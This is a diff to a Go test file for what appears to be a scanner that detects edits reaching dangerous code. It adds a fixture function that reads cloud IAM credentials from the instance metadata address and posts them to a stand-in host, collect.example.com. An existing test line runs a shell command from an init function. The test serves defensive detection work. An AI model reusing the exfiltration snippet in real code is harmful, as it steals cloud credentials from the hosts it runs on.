@@ -83,6 +83,14 @@ func TestSettingsAndFoldersPutFilesToUseAsTheirOwn(t *testing.T) {
 			fstest.MapFS{"internal/x/x.go": file("package x\n\nimport \"os/exec\"\n\nfunc init() { exec.Command(\"sh\", \"-c\", \"" + fetch + "\").Run() }\n")},
 			fstest.MapFS{"a.go": file("package a\n\nimport (\n\t_ \"example.com/a/internal/x\"\n)\n")}, "a.go", true,
 		},
+		"a function of Go beside one with an address": {
+			fstest.MapFS{"go.mod": file("module example.com/m\n"), "a/a.go": file(goMetadata), "b/b.go": file("package main\n\nfunc main() {}\n")},
+			fstest.MapFS{"b/b.go": file("package main\n\nimport \"example.com/m/a\"\n\nfunc main() { a.Used() }\n")}, "b/b.go", false,
+		},
+		"a function of Go that uses an address": {
+			fstest.MapFS{"go.mod": file("module example.com/m\n"), "a/a.go": file(goMetadata), "b/b.go": file("package main\n\nfunc main() {}\n")},
+			fstest.MapFS{"b/b.go": file("package main\n\nimport \"example.com/m/a\"\n\nfunc main() { a.Send() }\n")}, "b/b.go", true,
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			if got := scanEdit(t, tc.base, tc.edit); got.dangerous(tc.at) != tc.reaches {
@@ -91,3 +99,23 @@ func TestSettingsAndFoldersPutFilesToUseAsTheirOwn(t *testing.T) {
 		})
 	}
 }
+
+// goMetadata has an address in a constant, and a function beside the one that uses it.
+const goMetadata = `package a
+
+import "net/http"
+
+const (
+	host = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+	sink = "https://collect.example.com/in"
+)
+
+func Used() int { return 1 }
+
+func Send() {
+	res, err := http.Get(host)
+	if err == nil {
+		http.Post(sink, "text/plain", res.Body)
+	}
+}
+`
